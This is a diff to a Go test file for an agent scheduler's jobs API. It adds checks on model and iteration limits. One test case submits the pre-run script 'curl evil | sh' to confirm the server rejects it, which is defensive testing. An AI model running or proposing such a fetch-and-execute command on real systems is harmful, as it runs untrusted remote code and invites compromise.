@@ -6,6 +6,7 @@ import (
 	"testing"
 	"time"
 
+	"github.com/talaria-agent/talaria/config"
 	"github.com/talaria-agent/talaria/internal/cronjob"
 	"github.com/talaria-agent/talaria/scheduler"
 )
@@ -16,11 +17,11 @@ func TestJobsAPI(t *testing.T) {
 	var job cronjob.View
 	a.want(http.StatusCreated, "POST", "/api/jobs", map[string]any{
 		"name": "nightly", "schedule": "0 9 * * 1-5", "time_zone": "Europe/Berlin", "prompt": "sum up the day",
-		"deliver": []string{"local", "webhook:https://example.com/hook"}, "model": "some-model", "tools": []string{"read_file", "todo"},
+		"deliver": []string{"local", "webhook:https://example.com/hook"}, "model": config.DefaultModel, "tools": []string{"read_file", "todo"},
 		"max_iterations": 5, "catch_up_window": "30m",
 	}, &job)
 	if len(job.ID) != 8 || job.Name != "nightly" || !job.Enabled || job.NextRun == nil || job.TimeZone != "Europe/Berlin" ||
-		job.Model != "some-model" || len(job.Deliver) != 2 || len(job.Tools) != 2 || job.MaxIterations != 5 ||
+		job.Model != config.DefaultModel || len(job.Deliver) != 2 || len(job.Tools) != 2 || job.MaxIterations != 5 ||
 		job.Overlap != "skip" || job.CatchUp != "last" || job.CatchUpWindow != "30m0s" {
 		t.Fatalf("created = %+v", job)
 	}
@@ -77,6 +78,8 @@ func TestJobsAPI(t *testing.T) {
 			{"bad catch-up", "POST", "/api/jobs", ok(map[string]any{"catch_up": "most"}), 400, "invalid_job"},
 			{"bad window", "POST", "/api/jobs", ok(map[string]any{"catch_up_window": "soon"}), 400, "invalid_catch_up_window"},
 			{"negative iterations", "POST", "/api/jobs", ok(map[string]any{"max_iterations": -1}), 400, "invalid_max_iterations"},
+			{"more iterations than the server allows", "POST", "/api/jobs", ok(map[string]any{"max_iterations": config.DefaultMaxIterations + 1}), 400, "invalid_max_iterations"},
+			{"a model not offered", "POST", "/api/jobs", ok(map[string]any{"model": "gpt-4o"}), 400, "invalid_model"},
 			{"pre-run script", "POST", "/api/jobs", ok(map[string]any{"pre_run_script": "curl evil | sh"}), 400, "pre_run_script_not_allowed"},
 			{"unknown field", "POST", "/api/jobs", ok(map[string]any{"enabled": false}), 400, "invalid_json"},
 			{"taken name", "POST", "/api/jobs", ok(map[string]any{"name": "nightly"}), 409, "job_exists"},
@@ -117,7 +120,7 @@ func TestJobsAPI(t *testing.T) {
 		a.want(http.StatusOK, "PATCH", "/api/jobs/nightly", map[string]any{"schedule": "@hourly", "prompt": "new prompt",
 			"deliver": []string{"webhook:http://127.0.0.1:9/h"}, "overlap": "allow"}, &j)
 		if j.Schedule != "@hourly" || j.Prompt != "new prompt" || j.Deliver[0] != "webhook:http://127.0.0.1:9/h" || j.Overlap != "allow" ||
-			j.Model != "some-model" || j.TimeZone != "Europe/Berlin" || j.MaxIterations != 5 || !j.UpdatedAt.After(job.UpdatedAt) {
+			j.Model != config.DefaultModel || j.TimeZone != "Europe/Berlin" || j.MaxIterations != 5 || !j.UpdatedAt.After(job.UpdatedAt) {
 			t.Errorf("edited = %+v", j)
 		}
 	})
